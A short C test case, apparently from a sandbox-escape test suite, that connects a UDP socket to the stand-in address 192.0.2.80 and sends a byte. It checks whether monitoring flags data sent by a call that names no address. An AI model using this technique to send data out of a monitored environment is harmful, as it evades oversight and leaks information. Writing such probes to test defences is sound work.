/* A datagram by a socket that was connected before. */
#include "../attack.h"

#include "dial.h"

ATTACK(NETWORK, "attempts", .gain = "what was found, sent by a call that names no address",
       .source = "send(2)", .event = "network.blocked", .with = "address=192.0.2.80",
       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
{
	struct sockaddr_in a = at4("192.0.2.80", 9999);
	int fd = socket_soon(AF_INET, SOCK_DGRAM);

	return fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 ? -1
									   : send(fd, "x", 1, 0);
}
